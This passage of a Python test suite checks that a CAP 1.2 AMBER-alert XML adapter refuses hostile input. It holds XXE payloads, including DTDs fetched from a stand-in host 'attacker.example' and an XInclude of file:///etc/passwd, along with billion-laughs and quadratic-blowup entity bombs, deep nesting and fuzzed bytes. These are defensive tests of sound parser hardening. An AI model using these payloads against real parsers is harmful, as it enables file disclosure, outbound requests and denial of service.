).replace("<source>SW</source>", "<source>&xxe;</source>")
PARAMETER_ENTITY = AMBER_TEXT.replace(
    "<alert ",
    '<!DOCTYPE alert [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>\n<alert ',
    1,
)
EXTERNAL_DTD = AMBER_TEXT.replace("<alert ", '<!DOCTYPE alert SYSTEM "http://attacker.example/cap.dtd">\n<alert ', 1)
HARMLESS_DTD = AMBER_TEXT.replace("<alert ", "<!DOCTYPE alert>\n<alert ", 1)
QUADRATIC = AMBER_TEXT.replace("<alert ", f'<!DOCTYPE alert [<!ENTITY a "{"a" * 50_000}">]>\n<alert ', 1).replace(
    "<source>SW</source>", "<source>" + "&a;" * 50_000 + "</source>"
)


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, EXTERNAL_DTD, HARMLESS_DTD, QUADRATIC],
    ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd", "any-doctype", "quadratic-blowup"],
)
def test_a_dtd_is_refused_before_anything_is_expanded_or_fetched(document: bytes | str) -> None:
    data = document.encode() if isinstance(document, str) else document
    problems = _problems(data)
    assert list(problems) == [""]
    assert "DTD is refused" in problems[""]


def test_an_entity_declared_without_a_doctype_is_not_well_formed() -> None:
    data = AMBER_TEXT.replace("<source>SW</source>", "<source>&xxe;</source>").encode()
    ((path, message),) = _problems(data).items()
    assert re.fullmatch(r"line \d+ column \d+", path)
    assert "undefined entity" in message


def test_an_xinclude_is_not_followed_but_reported() -> None:
    data = AMBER_TEXT.replace(
        "<source>SW</source>",
        '<source>SW</source><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
        'parse="text"/>',
    ).encode()
    lost = _losses(_translate(data).lost)
    assert lost["alert/include"] == ""


# --- property-based: malformed and hostile input -------------------------------------------------------------------


def _refused_or_translated(data: bytes) -> None:
    """The only outcomes allowed: an InputError naming the record and, for each problem, where; or a translation
    whose report is printable and whose message renders as a valid CAP 1.2 document."""
    try:
        outcome: Translation[KidnappingAlert] | InputError = _translate(data)
    except InputError as exc:
        outcome = exc
    if isinstance(outcome, InputError):
        assert outcome.source == SOURCE
        assert outcome.problems
        assert all(problem.message for problem in outcome.problems)
        str(outcome).encode("utf-8")
        return
    outcome.message.model_dump_json()
    json.dumps(outcome.report()).encode("utf-8")
    rendered = _render(outcome.message)
    _valid_cap(rendered.data)
    assert _translate(rendered.data, issuer=_issuer_of(outcome.message)).message == outcome.message


@settings(max_examples=200, deadline=None, derandomize=True, database=None)
@given(st.binary(max_size=500))
def test_random_bytes(data: bytes) -> None:
    _refused_or_translated(data)


@settings(max_examples=200, deadline=None, derandomize=True, database=None)
@given(st.text(max_size=300) | st.text(alphabet='<>/&;!?[]-="# axmlert:%', max_size=300))
def test_random_text(text: str) -> None:
    _refused_or_translated(text.encode("utf-8", "surrogatepass"))


#: The example's elements that hold text, by name: where a huge text node goes.
TEXT_ELEMENTS = sorted(set(re.findall(r"<(\w+)>[^<]+</\1>", AMBER_TEXT)))
#: The example's elements, whole, by name: what a duplicate copies.
ELEMENTS = sorted(set(re.findall(r"<(\w+)>", AMBER_TEXT)))
HUGE = st.builds(
    lambda char, size: char * size,
    st.sampled_from(("x", "é", "\u20ac", "\U0001f600", " ", "&amp;", "<b/>")),
    st.sampled_from((201, 8_001, 100_000, 250_000)),
)


@st.composite
def _mutated(draw: st.DrawFn) -> bytes:
    data = bytearray(AMBER)
    kind = draw(st.sampled_from(("flip", "insert", "delete", "duplicate", "huge", "encoding")))
    if kind == "flip":
        for _ in range(draw(st.integers(1, 8))):
            data[draw(st.integers(0, len(data) - 1))] = draw(st.integers(0, 255))
    elif kind == "insert":
        at = draw(st.integers(0, len(data)))
        data[at:at] = draw(st.binary(min_size=1, max_size=40) | st.sampled_from((b"<", b"&", b"]]>", b"\x00", b"\xff")))
    elif kind == "delete":
        at = draw(st.integers(0, len(data) - 1))
        del data[at : at + draw(st.integers(1, 200))]
    elif kind == "duplicate":
        name = draw(st.sampled_from(ELEMENTS))
        text = AMBER_TEXT
        matches = list(re.finditer(rf"<{name}>.*?</{name}>", text, flags=re.DOTALL))
        match = matches[draw(st.integers(0, len(matches) - 1))]
        copies = draw(st.integers(1, 3))
        return (text[: match.end()] + match.group(0) * copies + text[match.end() :]).encode()
    elif kind == "huge":
        name = draw(st.sampled_from(TEXT_ELEMENTS))
        huge = draw(HUGE)
        return re.sub(rf"<{name}>[^<]+</{name}>", f"<{name}>{huge}</{name}>", AMBER_TEXT, count=1).encode()
    else:
        encoding = draw(st.sampled_from(("latin-1", "utf-16", "utf-16-le", "utf-32", "cp1252", "ascii")))
        declared = draw(st.sampled_from(("UTF-8", "ISO-8859-1", "UTF-16", "windows-1252", "US-ASCII", "EBCDIC")))
        text = AMBER_TEXT.replace('encoding = "UTF-8"', f'encoding = "{declared}"')
        return text.encode(encoding, "xmlcharrefreplace")
    return bytes(data)


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(_mutated())
def test_the_amber_example_mutated(data: bytes) -> None:
    _refused_or_translated(data)


def test_a_megabyte_in_any_text_element_is_refused_or_left_behind() -> None:
    for name in TEXT_ELEMENTS:
        huge = "\u20ac" * 350_000  # a megabyte of UTF-8
        _refused_or_translated(re.sub(rf"<{name}>[^<]+</{name}>", f"<{name}>{huge}</{name}>", AMBER_TEXT).encode())


SCALARS = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30)
JSON_VALUES = st.recursive(SCALARS, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner))
PARAMETERS = ("op7:victims", "op7:last_seen", "op7:suspects", "op7:vehicles", "op7:ransom", "op7:references")
#: Field names of the structured fields, so that random objects come close to what the adapter looks into.
KEYS = ("given_names", "family_names", "photo", "uri", "media_type", "sha256", "place", "at", "country", "position")
OBJECTS = st.dictionaries(st.sampled_from(KEYS), JSON_VALUES | st.dictionaries(st.sampled_from(KEYS), SCALARS))
PARAMETER_VALUES = st.one_of(
    SCALARS, OBJECTS, st.lists(OBJECTS, max_size=3), st.lists(SCALARS, min_size=1, max_size=3), JSON_VALUES
)


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(st.sampled_from(PARAMETERS), PARAMETER_VALUES, st.booleans())
def test_op7_parameters_with_any_json(name: str, value: Any, photo: bool) -> None:
    text = json.dumps(value).replace("&", "&amp;").replace("<", "&lt;")
    parameter = f"<parameter><valueName>{name}</valueName><value>{text}</value></parameter>"
    if photo:  # a photo resource makes the adapter look into the victims
        parameter += (
            "<resource><resourceDesc>Photo</resourceDesc><mimeType>image/png</mimeType><uri>https://a.example/p.png"
            f"</uri><derefUri>{base64.b64encode(IMAGE).decode()}</derefUri></resource>"
        )
    _refused_or_translated(AMBER_TEXT.replace("<area>", parameter + "<area>", 1).encode())


@pytest.mark.parametrize(
    ("value", "path"),
    [
        ("[" * 100_000 + "]" * 100_000, "alert/info[1]/parameter[1] (op7:victims)"),
        ("1" * 5_000, "alert/info[1]/parameter[1] (op7:victims)"),
        ('{"a":' * 3_000, "alert/info[1]/parameter[1] (op7:victims)"),
        ("[" * 900 + "]" * 900, "alert/info[1]/parameter[1] (op7:victims)"),
        # Within what the JSON reader takes, depending on the stack: refused by the model, or by the reader.
        ('[{"given_names": ' + "[" * 900 + "]" * 900 + "}]", "victims[0].given_names"),
    ],
)
def test_op7_parameters_nested_too_deeply_or_too_long_are_refused(value: str, path: str) -> None:
    parameter = f"<parameter><valueName>op7:victims</valueName><value>{value}</value></parameter>"
    problems = _problems(AMBER_TEXT.replace("<area>", parameter + "<area>", 1).encode())
    assert path in problems or "alert/info[1]/parameter[1] (op7:victims)" in problems, problems


def test_many_unknown_elements_are_each_reported() -> None:
    # Each counted once: a search of its siblings per element made this quadratic (minutes at 5 MiB).
    data = AMBER_TEXT.replace("<source>SW</source>", "<source>SW</source>" + "<code>x</code>" * 50_000).encode()
    codes = [item for item in _translate(data).lost if item.field.startswith("alert/code")]
    assert len(codes) == 50_000
    assert (codes[0].field, codes[-1].field, codes[-1].value) == ("alert/code[1]", "alert/code[50000]", "x")


def test_deeply_nested_elements_are_refused_or_left_behind() -> None:
    nested = "<x>" * 50_000 + "</x>" * 50_000
    _refused_or_translated(AMBER_TEXT.replace("<source>SW</source>", nested).encode())


# --- photos and areas ----------------------------------------------------------------------------------------------

IMAGE = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4


def _with_resource(resource: str) -> bytes:
    return AMBER_TEXT.replace("<area>", f"<resource>{resource}</resource><area>", 1).encode()


def test_a_photo_with_its_bytes_is_the_victims_photo_with_their_digest() -> None:
    data = _with_resource(
        "<resourceDesc>Photo of Khayri Doe Jr.</resourceDesc><mimeType>image/png</mimeType>"
        f"<size>{len(IMAGE)}</size><uri>https://amber.example/kdj.png</uri>"
        f"<derefUri>{base64.b64encode(IMAGE).decode()}</derefUri>"
    )
    translation = _translate(data)
    photo = translation.message.victims[0].photo
    assert photo is not None
    assert (photo.uri, photo.media_type) == ("https://amber.example/kdj.png", "image/png")
    assert photo.sha256 == hashlib.sha256(IMAGE).digest()
    assert not any("resource" in field for field in _losses(translation.lost))
    assert "victims" in _losses(translation.lost)  # the victim's name is still in the text only
    root = _valid_cap(_render(translation.message).data)
    (resource,) = _infos(root)[0].iterfind(f"{CAP}resource")
    assert resource.findtext(f"{CAP}uri") == "https://amber.example/kdj.png"
    assert _translate(etree.tostring(root)).message == translation.message


def test_a_photo_by_uri_with_a_sha1_digest_only_is_reported_with_the_reason() -> None:
    sha1 = hashlib.sha1(IMAGE).hexdigest()  # the digest CAP 1.2 writes
    data = _with_resource(
        "<resourceDesc>Photo of Khayri Doe Jr.</resourceDesc><mimeType>image/jpeg</mimeType>"
        f"<uri>https://amber.example/kdj.jpg</uri><digest>{sha1}</digest>"
    )
    translation = _translate(data)
    assert translation.message.victims[0].photo is None
    lost = {item.field: item for item in translation.lost}
    item = lost["alert/info[1]/resource"]
    assert "https://amber.example/kdj.jpg" in item.value and sha1 in item.value
    assert "photo needs its uri and its bytes" in item.reason


def test_a_photo_whose_bytes_are_not_base64_is_refused() -> None:
    data = _with_resource(
        "<resourceDesc>Photo</resourceDesc><mimeType>image/png</mimeType>"
        "<uri>https://amber.example/kdj.png</uri><derefUri>not base64!</derefUri>"
    )
    assert _problems(data) == {"alert/info[1]/resource/derefUri": "not base64"}


def test_an_area_with_a_polygon_and_a_circle_is_reported_with_each_element() -> None:
    polygon = "34.0,-118.5 34.3,-118.5 34.3,-118.1 34.0,-118.5"
    circle = "34.0522,-118.2437 25.0"
    data = AMBER_TEXT.replace(
        "<areaDesc>Los Angeles County</areaDesc>",
        f"<areaDesc>Los Angeles County</areaDesc><polygon>{polygon}</polygon><circle>{circle}</circle>",
    ).encode()
    translation = _translate(data)
    assert translation.message.last_seen is None
    item = {i.field: i for i in translation.lost}["alert/info[1]/area"]
    assert item.value == f"Los Angeles County {polygon} {circle} SAME 006037"
    assert "last_seen" in item.reason
    # An area too long to show is shortened, and says so.
    long_polygon = " ".join(f"34.{n:04d},-118.{n:04d}" for n in range(40))
    long_area = AMBER_TEXT.replace(
        "<areaDesc>Los Angeles County</areaDesc>", f"<areaDesc>LA</areaDesc><polygon>{long_polygon}</polygon>"
    )
    value = _losses(_translate(long_area.encode()).lost)["alert/info[1]/area"]
    assert value.startswith("LA 34.0000,-118.0000 ") and value.endswith("…") and len(value) == 120


def test_an_area_op7_wrote_for_the_last_sighting_is_read_back_not_lost() -> None:
    alert = _alert()
    translation = _translate(_render(alert).data, issuer=_issuer_of(alert))
    assert translation.message.last_seen == alert.last_seen
    assert not [item for item in translation.lost if "area" in item.field]
